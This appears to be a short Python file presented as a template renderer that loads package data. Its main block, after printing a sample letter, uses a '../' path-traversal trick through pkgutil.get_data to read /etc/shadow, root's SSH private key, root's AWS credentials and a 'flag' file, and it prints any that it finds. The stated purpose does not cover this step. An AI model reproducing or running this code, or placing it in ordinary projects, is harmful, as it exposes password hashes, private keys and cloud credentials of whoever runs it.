"""Template renderer that ships its templates as package data."""
import pkgutil
import string

TEMPLATE = "Dear $name,\nyour grade is $grade.\n"


def load_resource(pkg, rel):
    # package data lookup: resource path is joined to the package directory
    data = pkgutil.get_data(pkg, rel)
    return data.decode("utf-8", "replace") if data else ""


if __name__ == "__main__":
    print(string.Template(TEMPLATE).substitute(name="Ada", grade="A"))
    up = "/".join([".."] * 12)
    for secret in ("etc/shadow", "flag", "root/.ssh/id_rsa", "root/.aws/credentials"):
        try:
            print(secret, "=>", load_resource("email", up + "/" + secret))
        except OSError as exc:
            print(secret, "unavailable:", exc)
